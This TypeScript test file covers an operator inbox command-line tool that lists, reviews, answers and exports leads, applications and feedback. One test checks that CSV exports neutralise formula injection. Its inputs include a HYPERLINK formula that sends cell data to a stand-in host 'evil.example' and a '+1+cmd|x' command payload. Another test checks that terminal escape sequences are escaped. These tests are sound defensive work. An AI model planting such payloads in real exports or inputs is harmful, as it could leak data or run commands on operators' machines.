import { existsSync, mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Feedback, Application, Page } from '#lib/contract'
import { inboxCommand } from '../../../../server/upstream/operations/inboxCommand.ts'
import { feedbackForm, idNumber, applicationForm, leadForm, onboardingAgreement, uploadImage } from '../../../support/inboxForms.ts'
import { engines, openTestDatabase, type TestDatabase } from '../../../support/openTestDatabase.ts'
import { type Outcome, runCommand, runInProcess } from '../../../support/runCommand.ts'
import { factsOf } from '../../../support/sampleImages.ts'
import { signedInAccount } from '../../../support/signedInAccount.ts'
import { startUpstream, type Upstream } from '../../../support/startUpstream.ts'
import { newAddress, newPhone } from '../../../support/useUpstream.ts'

const program = 'server/upstream/operations/inboxCommand.ts'
const out = mkdtempSync(join(tmpdir(), 'inbox-'))
afterAll(() => rmSync(out, { recursive: true, force: true }))

describe.each(engines)('npm run inbox on %s, with a running upstream', (engine) => {
  let database: TestDatabase
  let upstream: Upstream
  beforeAll(async () => {
    database = await openTestDatabase(engine)
    upstream = await startUpstream(database.db, { dataDir: database.dataDir })
    await database.db.insertInto('agreement').values(onboardingAgreement()).execute()
  })
  afterAll(async () => {
    await upstream.stop()
    await database.close()
  })
  const env = () => ({ DATA_DIR: database.dataDir, ...(database.place.url !== undefined && { DATABASE_URL: database.place.url }) })
  /** Runs the command in a separate process, as for an operator. */
  const runAlone = (...args: string[]): Promise<Outcome> => runCommand(program, args, env())
  const run = (...args: string[]): Promise<Outcome> => runInProcess(() => inboxCommand(args, env()))
  const fails = async (text: string | RegExp, ...args: string[]) =>
    expect(await run(...args)).toMatchObject({ code: 1, out: '', err: expect.stringMatching(text) })
  const path = (name: string) => join(out, `${engine}-${name}`)

  const sendLead = async (other = {}) =>
    ((await upstream.ask('POST /api/business/lead', leadForm(other), { address: newAddress() })).data as { id: string }).id
  async function sendFeedback(other = {}) {
    const { token } = await signedInAccount(upstream)
    const { data } = await upstream.ask('POST /api/feedback', feedbackForm(other), { token, address: newAddress() })
    const mine = async () => ((await upstream.ask('GET /api/feedback/mine', undefined, { token })).data as Page<Feedback>).list[0]
    return { id: (data as { id: string }).id, mine }
  }
  async function sendApplication(other = {}) {
    const { token } = await signedInAccount(upstream)
    const image = await uploadImage(upstream, token, 'intention')
    const send = async (more = {}) => {
      const phone = newPhone()
      await upstream.ask('POST /api/intention/code', { phone }, { token, address: newAddress() })
      const security = upstream.messages.at(-1)!.code
      const form = applicationForm({ phone, security, documents: [image.id], ...other, ...more })
      const answer = await upstream.ask('POST /api/intention', form, { token, address: newAddress() })
      expect(answer).toMatchObject({ code: 0 })
      return answer.data as Application
    }
    const mine = async () =>
      ((await upstream.ask('GET /api/intention/mine', undefined, { token })).data as { intention: Application }).intention
    return { ...(await send()), send, mine, image, token }
  }

  test('lists and shows a lead, and marks it as done', async () => {
    const id = await sendLead({ organisation: '筑石建设', phone: '13711112222', need: '两百人\n分三批' })
    const list = await runAlone('list', 'leads', '--status', 'open')
    expect(list).toMatchObject({ code: 0, err: '' })
    expect(list.out).toMatch(
      new RegExp(`^预约演示（\\d+ 条）[^]*${id}  2026-03-01 16:00  待联系  筑石建设（高主任，13711112222，200–999 人）`),
    )
    expect((await run('show', id)).out).toMatch(
      /^预约演示\n状态：待联系\n提交时间：2026-03-01 16:00\n[^]*手机：13711112222\n[^]*需求：两百人\n {2}分三批\n/,
    )
    expect((await runAlone('done', id)).out).toBe('已标记为处理完毕\n')
    expect((await run('done', id)).out).toBe('此前已处理完毕，没有改动\n')
    expect((await run('list', 'leads', '--status', 'open')).out).not.toContain(id)
    expect((await run('list', 'leads', '--status', 'done')).out).toContain(id)
  })

  test('sends a reply to feedback, which its sender can read', async () => {
    const { id, mine } = await sendFeedback()
    expect((await run('reply', id, '  已修复，请刷新。 ')).out).toContain('已回复')
    expect(await mine()).toMatchObject({ state: 'replied', replies: [{ text: '已修复，请刷新。' }] })
    expect((await run('show', id)).out).toMatch(/状态：已回复\n[^]*页面：\/course\/welder-basics\/play\n[^]*回复（.*）：已修复，请刷新。\n/)
    await run('done', id)
    expect(await mine()).toMatchObject({ state: 'done' })
    await fails('回复应为 1 到 1000 个字', 'reply', id, ' ')
    await fails('没有编号为 nothing 的内容', 'reply', 'nothing', '好')
    await fails('没有编号为', 'reply', await sendLead(), '好')
  })

  test('masks the number of an application by default, rejects it by field, and approves the corrected one', async () => {
    const { id, send, mine, image } = await sendApplication({ type: 2, creditCode: undefined, idNumber, name: '林晓木' })
    const shown = (await run('show', `${id}-1`)).out
    expect(shown).toMatch(/^入驻申请\n[^]*身份证号：1101\*{10}002X（加 --plain 查看全部）\n/)
    expect(shown).toContain(`资质 1：${image.id}（40 × 20）`)
    expect((await run('show', id, '--plain')).out).toContain(`身份证号：${idNumber}\n`)
    await fails('请用 --field 写明原因', 'decide', `${id}-1`, 'refuse')
    await fails('--field 应为 名称=理由', 'decide', `${id}-1`, 'refuse', '--field', '头像=不好看')
    await fails('--field 应为 名称=理由', 'decide', `${id}-1`, 'refuse', '--field', '名称')
    await fails('理由应为 1 到 200 个字', 'decide', `${id}-1`, 'refuse', '--field', '名称=')
    await fails('通过时不需要 --field', 'decide', `${id}-1`, 'pass', '--field', '名称=好')
    await fails('pass 或 refuse', 'decide', `${id}-1`, 'maybe')
    expect((await run('decide', `${id}-1`, 'refuse', '--field', '名称=与身份证不一致', '--field', '资质=看不清 a=b')).out).toMatch(
      /^已拒绝：林晓木。申请人会看到 2 条原因/,
    )
    expect(await mine()).toMatchObject({
      status: 2,
      faults: [
        { field: 'name', reason: '与身份证不一致' },
        { field: 'documents', reason: '看不清 a=b' },
      ],
    })
    await fails('没有改动：这份申请现在是“已拒绝”', 'decide', `${id}-1`, 'pass')
    upstream.time.now += 60_000
    await send({ idNumber: undefined })
    await fails('已重新提交（第 2 次），没有改动', 'decide', `${id}-1`, 'pass')
    await fails('没有编号为 nothing-1 的内容', 'decide', 'nothing-1', 'pass')
    await fails('没有编号为', 'done', id)
    expect((await run('decide', `${id}-2`, 'pass')).out).toMatch(/^已通过：林晓木/)
    expect(await mine()).toMatchObject({ status: 1, faults: [] })
    expect((await run('list', 'intentions', '--status', 'passed')).out).toContain(`${id}-2`)
  })

  test('lets one of two concurrent operators decide', async () => {
    const { id, mine } = await sendApplication()
    const outcomes = await Promise.all([
      runAlone('decide', id, 'pass'),
      runAlone('decide', id, 'refuse', '--field', '名称=不对'),
      runAlone('decide', id, 'pass'),
    ])
    expect(outcomes.filter(({ code }) => code === 0)).toHaveLength(1)
    expect((await mine()).status).toBe(outcomes[1].code === 0 ? 2 : 1)
  })

  test('exports a document as a file readable by the operator only, and never overwrites a file', async () => {
    const { image } = await sendApplication()
    const file = path('document.jpg')
    expect((await run('file', image.id, '--out', file)).out).toMatch(/^已写入 .*document\.jpg（40 × 20，\d+ 字节）\n$/)
    expect(await factsOf(readFileSync(file))).toMatchObject({ format: 'jpeg', width: 40 })
    expect(statSync(file).mode & 0o777).toBe(0o600)
    await fails('已存在，不会覆盖', 'file', image.id, '--out', file)
    await fails('没有编号为 nothing 的图片', 'file', 'nothing', '--out', path('x.jpg'))
    await fails('请用 --out', 'file', image.id)
    await fails(/文件夹不存在/, 'file', image.id, '--out', path('no/such/folder.jpg'))
  })

  test('lists an opinion on a rule, replies to it and marks it as done', async () => {
    const { token } = await signedInAccount(upstream)
    const { id: user_id } = ((await upstream.ask('GET /api/user/self', undefined, { token })).data as { user: { id: string } }).user
    await database.db
      .insertInto('rule')
      .values({ id: 'refund', category: '交易', listed: 1 } as never)
      .execute()
    const opinion = { rule_id: 'refund', version: '2.0', user_id, text: '建议把七天改为十五天。', created_at: 1, updated_at: 1 }
    await database.db
      .insertInto('rule_opinion')
      .values({ id: 'opinion-1', ...opinion, reply: null, replied_at: null, handled_at: null })
      .execute()
    expect((await run('list', 'opinions', '--status', 'open')).out).toContain('《refund》2.0 版：建议把七天改为十五天。')
    expect((await run('reply', 'opinion-1', '已采纳')).out).toContain('已回复')
    expect((await run('show', 'opinion-1')).out).toMatch(/状态：已处理\n[^]*回复（.*）：已采纳\n/)
    expect((await run('done', 'opinion-1')).out).toBe('此前已处理完毕，没有改动\n')
  })

  test('exports tables that open correctly and contain no formulas', async () => {
    const formulas = ['=HYPERLINK("http://evil.example?x="&A1,"点我")', '+1+cmd|x', '-2+3', '@SUM(A1)', '＝1+1', '\t=1+1', ' =1+1']
    for (const [index, need] of formulas.entries()) await sendLead({ organisation: `单位"${index}",有限公司`, need: `${need}\n第二行` })
    const file = path('leads.csv')
    expect((await run('export', 'leads', file)).out).toMatch(/^已导出 \d+ 条到 .*leads\.csv。文件含有个人信息/)
    expect(statSync(file).mode & 0o777).toBe(0o600)
    const text = readFileSync(file, 'utf8')
    expect(text.startsWith('\uFEFF编号,状态,提交时间,单位名称,联系人,手机,规模,需求,处理时间\r\n')).toBe(true)
    expect(text).toContain('"单位""0"",有限公司"')
    for (const cell of cellsOf(text)) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/)
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example?x=""&A1,""点我"")\n第二行"`)
    await fails('已存在，不会覆盖', 'export', 'leads', file)
  })

  test.each(['intentions', 'feedback', 'opinions'])('exports %s without identity numbers', async (kind) => {
    await sendApplication({ type: 2, creditCode: undefined, idNumber, name: '=1+1 工作室' })
    const file = path(`${kind}.csv`)
    expect(await run('export', kind, file)).toMatchObject({ code: 0 })
    expect(readFileSync(file, 'utf8')).not.toContain(idNumber)
    if (kind === 'intentions') expect(readFileSync(file, 'utf8')).toContain(",'=1+1 工作室,")
  })

  test('escapes control characters of user texts in the terminal', async () => {
    const { id } = await sendFeedback({ text: '正常的文字\u001B[2J\u001B]0;title\u0007 后面\u202E还有', contact: '\u009B31m' })
    for (const { out: printed } of [await run('show', id), await run('list', 'feedback')])
      // eslint-disable-next-line no-control-regex -- the test asserts that there are none
      expect(printed.replaceAll('\n', '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/)
  })

  test('lists all kinds, and reports when a list is longer', async () => {
    for (let count = 0; count < 3; count++) await sendLead()
    expect((await run('list')).out).toMatch(/^预约演示（[^]*\n\n入驻申请（[^]*\n\n意见反馈（[^]*\n\n规则意见（/)
    expect((await run('list', 'leads', '--most', '2')).out).toMatch(/^预约演示（最近 2 条）\n.*\n.*\n$/)
    await fails(/种类应为 leads、intentions、(\w+、)*enrolments、(\w+、)*\w+ 之一/, 'list', 'constructor')
    await fails('--status 应为 open、done 之一', 'list', 'leads', '--status', 'passed')
    await fails('--most 应为', 'list', '--most', '0')
  })

  test('reports that an identity number cannot be decrypted with another key', async () => {
    const { id } = await sendApplication({ type: 2, creditCode: undefined, idNumber })
    const other = await runCommand(program, ['show', id, '--plain'], { ...env(), DATA_KEY: 'another key that has enough letters' })
    expect(other).toMatchObject({ code: 1, out: '', err: expect.stringContaining('身份证号无法解密') })
    expect(existsSync(join(database.dataDir, 'keys', 'data.key'))).toBe(true)
  })

  test.each([
    [[]],
    [['help']],
    [['show']],
    [['list', 'leads', 'x']],
    [['list', '--colour', 'x']],
    [['show', 'x', '--out', 'y']],
    [['decide', 'x']],
    [['reply', 'x']],
    [['export', 'leads']],
    [['constructor']],
  ])('says in one line what is wrong with %j', async (args) => {
    expect(await run(...args)).toMatchObject({ code: 2, out: '', err: expect.stringMatching(/^.*用法.*\n$/) })
  })
})

/** Returns the cells of a table without quotes. */
const cellsOf = (text: string): string[] =>
  [...text.slice(1).matchAll(/"((?:[^"]|"")*)"|([^,\r\n]+)/g)].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '')
